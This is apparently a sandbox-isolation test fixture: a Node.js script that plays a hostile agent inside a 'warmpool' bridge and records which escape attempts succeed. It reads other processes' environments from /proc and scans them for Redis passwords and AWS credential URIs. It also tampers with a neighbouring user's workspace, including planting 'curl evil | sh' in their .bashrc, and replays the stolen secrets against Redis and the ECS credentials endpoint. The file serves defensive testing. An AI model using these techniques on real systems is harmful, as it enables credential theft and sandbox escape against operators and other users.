/* global process, console, fetch */
// A hostile agent: started by a real `warmpool bridge` as a user's agent, it tries every way out of
// its box it knows, records each attempt's outcome, writes the report to ./hostile-report.json
// (its own workspace) and prints "REPORT-WRITTEN". Plain Node, no dependencies: it runs as an
// unprivileged uid from a read-only copy of the source tree.
//   argv[2]: JSON {redisPort, credsPort, victim, newcomer, newcomer2, secretFile}
import {
  closeSync,
  openSync,
  readFileSync,
  readdirSync,
  writeFileSync,
  mkdirSync,
  symlinkSync,
  linkSync,
  renameSync,
  unlinkSync,
} from "node:fs";
import { connect } from "node:net";
import { dirname, join } from "node:path";

const cfg = JSON.parse(process.argv[2] ?? "{}");
const attempts = {};
const loot = []; // every text read, searched for Redis URLs and credential URIs

function attempt(name, fn) {
  try {
    const data = fn();
    const text = typeof data === "string" ? data : JSON.stringify(data ?? null);
    loot.push(text);
    attempts[name] = { ok: true, data: text.slice(0, 4000) };
  } catch (e) {
    attempts[name] = { ok: false, error: String(e?.code ?? e?.message ?? e) };
  }
}
const readText = (p) => readFileSync(p, "utf8").replace(/\0/g, "\n");

const bridge = process.ppid;
const ws = process.cwd();
const root = dirname(ws);

// 1. What it was given and what it can read of the bridge and PID 1.
attempt("own-env", () =>
  Object.entries(process.env)
    .map(([k, v]) => `${k}=${v}`)
    .join("\n"),
);
attempt("bridge-environ", () => readText(`/proc/${bridge}/environ`));
attempt("bridge-cmdline", () => readText(`/proc/${bridge}/cmdline`));
attempt("bridge-mem", () => closeSync(openSync(`/proc/${bridge}/mem`, "r")));
attempt("bridge-maps", () => readText(`/proc/${bridge}/maps`).slice(0, 200));
attempt("bridge-fd", () => readdirSync(`/proc/${bridge}/fd`));
// Signal 0 checks the permission to signal without sending one (SIGKILL would end the test).
attempt("signal-bridge", () => process.kill(bridge, 0));
attempt("pid1-environ", () => readText("/proc/1/environ"));
attempt("pid1-cmdline", () => readText("/proc/1/cmdline"));
attempt("secret-file", () => readText(cfg.secretFile));
// Every process's environment it can read, keeping only what looks like a secret.
attempt("scan-environ", () => {
  const found = [];
  for (const pid of readdirSync("/proc").filter((d) => /^\d+$/.test(d))) {
    try {
      const env = readText(`/proc/${pid}/environ`);
      if (/redis:\/\/:|CREDENTIALS_RELATIVE_URI|WARMPOOL_REDIS_URL/.test(env)) found.push(`${pid}:${env}`);
    } catch {
      // refused: as it should be
    }
  }
  if (!found.length) throw new Error("nothing readable held a secret");
  return found.join("\n");
});

// 2. Other users' workspaces and the UID records.
const victim = join(root, cfg.victim);
attempt("list-root", () => readdirSync(root));
attempt("list-victim", () => readdirSync(victim));
attempt("read-victim", () => readText(join(victim, "secret.txt")));
attempt("read-victim-via-dotdot", () => readText(`../${cfg.victim}/secret.txt`));
attempt("hardlink-victim-file", () => linkSync(join(victim, "secret.txt"), join(ws, "stolen")));
attempt("symlink-to-victim-then-read", () => {
  symlinkSync(victim, join(ws, "to-victim"));
  return readText(join(ws, "to-victim", "secret.txt"));
});
attempt("write-victim", () => writeFileSync(join(victim, ".bashrc"), "curl evil | sh\n"));
attempt("precreate-newcomer-dir", () => mkdirSync(join(root, cfg.newcomer), { mode: 0o777 }));
attempt("precreate-newcomer-symlink", () => symlinkSync(ws, join(root, cfg.newcomer2)));
attempt("read-uid-records", () => readdirSync(join(root, ".warmpool-uids", "by-user")));
attempt("delete-victim-file", () => unlinkSync(join(victim, "secret.txt")));
attempt("rename-victim", () => renameSync(victim, `${victim}-gone`));

// 3. Use whatever was found: Redis (AUTH with each password found, and none) and the ECS credentials endpoint.
const all = loot.join("\n");
const passwords = [...new Set([...all.matchAll(/rediss?:\/\/[^:\s]*:([^@\s]+)@/g)].map((m) => m[1]))];
const credUris = [...new Set([...all.matchAll(/\/v2\/credentials\/[0-9a-f-]{8,}/g)].map((m) => m[0]))];

function redisTry(password) {
  return new Promise((resolve) => {
    const s = connect(cfg.redisPort, "127.0.0.1");
    let out = "";
    const done = (r) => {
      s.destroy();
      resolve(r);
    };
    s.setTimeout(3000, () => done({ ok: false, error: "timeout" }));
    s.on("error", (e) => done({ ok: false, error: e.code }));
    s.on("data", (d) => {
      out += d.toString();
      if (/\r\n.*\r\n/s.test(out) || (!password && out.includes("\r\n")) || out.startsWith("-")) {
        // The last reply decides: +PONG means the connection is usable.
        const lines = out.trim().split("\r\n");
        const last = lines[lines.length - 1];
        done(
          last === "+PONG"
            ? { ok: true, data: `PONG with ${password ? "a found password" : "no password"}` }
            : { ok: false, error: last },
        );
      }
    });
    s.on("connect", () => s.write(password ? `AUTH ${password}\r\nPING\r\n` : "PING\r\n"));
  });
}

async function credsTry(path) {
  const r = await fetch(`http://127.0.0.1:${cfg.credsPort}${path}`).catch((e) => ({
    status: 0,
    text: async () => String(e),
  }));
  const body = await r.text();
  return r.status === 200 && body.includes("AccessKeyId")
    ? { ok: true, data: body }
    : { ok: false, error: `HTTP ${r.status}` };
}

const redisResults = [await redisTry(undefined), ...(await Promise.all(passwords.map(redisTry)))];
attempts["redis-with-found-credentials"] = redisResults.find((r) => r.ok) ?? {
  ok: false,
  error: `${passwords.length} password(s) found; ${redisResults.map((r) => r.error).join(", ")}`,
};
const credResults = await Promise.all(["/v2/credentials/", "/v2/credentials", ...credUris].map(credsTry));
attempts["ecs-credentials"] = credResults.find((r) => r.ok) ?? {
  ok: false,
  error: `${credUris.length} credentials URI(s) found; ${credResults.map((r) => r.error).join(", ")}`,
};

/** Its own credentials as the kernel sees them: capability sets and no_new_privs. */
function status() {
  const out = {};
  for (const line of readFileSync("/proc/self/status", "utf8").split("\n")) {
    const m = /^(CapInh|CapPrm|CapEff|CapAmb|NoNewPrivs|Groups):\s*(.*)$/.exec(line);
    if (m) out[m[1]] = m[2].trim();
  }
  return out;
}

writeFileSync(
  join(ws, "hostile-report.json"),
  JSON.stringify({ uid: process.getuid(), groups: process.getgroups(), status: status(), attempts }, null, 1),
);
console.log("REPORT-WRITTEN");
// Stay alive like a real agent until the session ends.
process.stdin.resume();
